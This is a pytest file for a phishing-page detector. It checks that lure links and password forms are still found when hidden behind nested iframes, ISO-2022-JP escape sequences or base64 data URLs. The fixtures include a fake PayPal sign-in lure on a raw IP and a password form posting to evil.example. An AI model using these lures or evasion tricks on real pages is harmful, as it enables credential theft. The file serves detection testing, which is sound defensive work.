"""Pages built to look unfinished or to hide a form from the reader."""

from __future__ import annotations

import base64

import pytest

from trustwatch.content import extract_content
from trustwatch.detectors.file_phishing import (
    FindingRules,
    assess_file,
    file_findings,
    heuristic_url_scorer,
)

LURE = (
    b'<p>Your invoice</p><a href="http://198.51.100.7/paypal/signin/">View document</a>'
)


def _kinds(page: bytes) -> dict[str, float]:
    extraction = extract_content(page, name="page.html")
    assessment = assess_file(extraction, heuristic_url_scorer)
    return {f.kind: f.score for f in file_findings(assessment, FindingRules())}


def _nested(depth: int) -> bytes:
    inner = b"<b>x</b>"
    for _ in range(depth):
        escaped = inner.replace(b"&", b"&amp;").replace(b"'", b"&#39;")
        inner = b"<iframe srcdoc='" + escaped + b"'></iframe>"
    return inner


@pytest.mark.parametrize(
    "padding",
    [
        _nested(5),  # deeper than nested pages are read
        b"".join(b"<iframe srcdoc='<i>%d</i>'></iframe>" % n for n in range(70)),
    ],
    ids=["deep", "wide"],
)
def test_nesting_past_the_limits_does_not_hide_a_lure(padding: bytes) -> None:
    extraction = extract_content(LURE + padding, name="page.html")
    assert extraction.truncated
    assert {e.split(":")[0] for e in extraction.errors} == {"html_nested_limit"}

    found = _kinds(LURE + padding)

    assert found["file_lure_document"] == pytest.approx(
        _kinds(LURE)["file_lure_document"]
    )


def test_a_page_cut_short_by_its_size_is_no_lure() -> None:
    many = b"".join(b'<a href="https://e%d.example/">x</a>' % n for n in range(30_000))
    assert "file_lure_document" not in _kinds(LURE + many)


ISO_FORM = (
    b'<form action="https://evil.example/x" method="post">'
    b"<in\x1b(Bput type=pass\x1b(Bword name=p></form>"
)


def test_iso_2022_jp_escapes_do_not_hide_a_password_field() -> None:
    top = extract_content(ISO_FORM, name="page.html")
    assert [form.has_password for form in top.forms] == [True]

    framed = (
        b'<iframe src="data:text/html;charset=iso-2022-jp;base64,'
        + base64.b64encode(ISO_FORM)
        + b'"></iframe>'
    )
    nested = extract_content(framed, name="page.html")
    assert [form.has_password for form in nested.forms] == [True]


def test_utf8_pages_are_read_as_before() -> None:
    page = "<p>naïve café \x1b</p><a href='https://ok.example/'>x</a>".encode()
    extraction = extract_content(page, name="page.html")
    assert [u.url for u in extraction.urls] == ["https://ok.example/"]
    assert extraction.errors == ()
